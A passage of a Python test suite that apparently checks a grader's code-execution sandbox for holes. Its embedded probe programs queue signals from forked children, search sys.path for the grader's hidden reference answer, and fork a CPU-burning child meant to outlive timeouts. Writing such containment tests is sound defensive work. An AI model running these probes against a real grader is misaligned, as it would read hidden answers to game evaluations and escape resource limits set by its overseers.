    if pid == 0:
        name_me()
        fill()
        time.sleep(4)
        os._exit(0)
    kids.append(pid)
say('QUEUED', fill())
time.sleep(4)
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=16, cpu_s=20, memory_mb=256, max_processes=2),
    expected="queued signals stay within the run's memory bound (charged to its cgroup, or the run's own RLIMIT_SIGPENDING is small)",
    judge=judge_sigpending,
)


def _pre_datadir(tmp, nonce):
    import secrets as _secrets

    d = os.path.join(sysconfig.get_paths()["purelib"], "r3b7data-%s" % nonce)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "reference.json"), "w") as f:
        f.write('{"answer": "R3B7DATA-%s"}\n' % _secrets.token_hex(8))
    return {"env": {"R3BENCH_DATA_DIR": d}, "dir": d}


def _post_datadir(state):
    import shutil

    shutil.rmtree(state["dir"], ignore_errors=True)
    return None, "data dir removed"


def judge_datadir(b, a, res, ctx):
    try:
        with open(os.path.join(os.environ["R3BENCH_DATA_DIR"], "reference.json")) as f:
            secret = re.search(r"R3B7DATA-\w+", f.read()).group(0)
    except Exception as e:
        return "inconclusive", "could not read the planted data: %r" % (e,)
    r = res[-1]
    obs = "%s; stdout %r" % (short(r), _stdout(r)[-300:])
    if r is not None and secret in text_of(r):
        return "hole", "the run read the grader's data directory (R3BENCH_DATA_DIR inside a bound tree): " + obs
    return "stopped", obs


A(
    id="env7_data_dir_in_tree",
    **{"class": "caller-env"},
    description="the caller's R3BENCH_DATA_DIR (the grader's reference data) lies inside a bound tree (a data directory in the venv's site-packages, as a pip-installed data package or a container image would put it); the run globs every sys.path entry for *data* directories and reads their files",
    scorer_pre=_pre_datadir,
    scorer_post=_post_datadir,
    code=prog(
        r"""
import sys, glob
seen = 0
for sp in sys.path + ['/usr/share', '/usr/local/share']:
    for d in glob.glob(os.path.join(sp, '*data*')):
        for p in glob.glob(os.path.join(d, '*'))[:20]:
            try:
                with open(p) as f:
                    txt = f.read(200)
            except Exception:
                continue
            if 'R3B7DATA' in txt:
                print('FOUND', p, txt.strip())
            seen += 1
print('files looked at', seen)
result = 1
""",
        prelude=False,
    ),
    limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=0),
    expected="the grader's data directory is not readable in the run wherever it lies (as the checkout and $HOME are covered); not documented either way",
    judge=judge_datadir,
)


def _setup_gone_cwd(ctx):
    d = os.path.join(ctx["tmpdir"], "gone")
    os.mkdir(d)
    os.chdir(d)
    os.rmdir(d)


A(
    id="env7_cwd_deleted",
    **{"class": "caller-env"},
    description="the caller's working directory has been deleted (a grader run from a cleaned-up temp dir); an honest run returning 42",
    setup=_setup_gone_cwd,
    teardown=lambda ctx: os.chdir(ctx["repo_dir"]),
    code=prog("result = 42\n", prelude=False),
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=0),
    expected="run_python returns (never raises): ok with 42, or an error status saying why",
    judge=lambda b, a, res, ctx: (
        ("hole", "run_python raised in the caller: %s" % run_errors(ctx))
        if run_errors(ctx)
        else (("stopped" if res[-1] is not None and res[-1].status == "ok" else "inconclusive"), short(res[-1]))
    ),
)


def _setup_alarm(ctx):
    def _h(sig, frm):
        raise TimeoutError("the grader's own time limit (SIGALRM)")

    ctx["_old_alrm"] = signal.signal(signal.SIGALRM, _h)
    signal.setitimer(signal.ITIMER_REAL, 1.5)


def _teardown_alarm(ctx):
    signal.setitimer(signal.ITIMER_REAL, 0)
    if ctx.get("_old_alrm") is not None:
        signal.signal(signal.SIGALRM, ctx["_old_alrm"])


def judge_alarm(b, a, res, ctx):
    t0 = (ctx.get("t_run0") or [None])[0] or time.monotonic()
    deadline = t0 + ctx["limits"]["wall_s"] + 4
    while time.monotonic() < deadline:
        time.sleep(0.2)
    alive = procs_named(ctx["marker"])
    left = leftover_diff(b, leftovers(ctx))
    obs = "run_python errors %s; the run's processes alive %.0f s after the start (wall_s %s): %s; %s" % (
        run_errors(ctx),
        time.monotonic() - t0,
        ctx["limits"]["wall_s"],
        alive,
        short(res[-1]) if res else "no result",
    )
    if alive:
        return "hole", "the run outlived the caller's exception and its own wall_s: " + obs
    if left:
        return "hole", obs + "; left: " + "; ".join(left)
    return "stopped", obs


A(
    id="env7_caller_alarm_exception",
    **{"class": "caller-env"},
    description="the caller has its own SIGALRM time limit (timeout decorators do) that raises TimeoutError inside run_python 1.5 s into a run whose worker sleeps and whose child burns CPU (wall_s 5): is the run still ended at wall_s, and cleaned up, when the caller's wait is interrupted?",
    setup=_setup_alarm,
    teardown=_teardown_alarm,
    code=prog(
        r"""
pid = os.fork()
if pid == 0:
    name_me()
    while True:
        pass
time.sleep(60)
result = 1
"""
    ),
    limits=L(wall_s=5, cpu_s=30, memory_mb=256, max_processes=1),
    expected="nothing of the run alive or left by wall_s + 4 s, whether run_python returned or raised the caller's exception",
    judge=judge_alarm,
)

BY_ID = {a["id"]: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS)
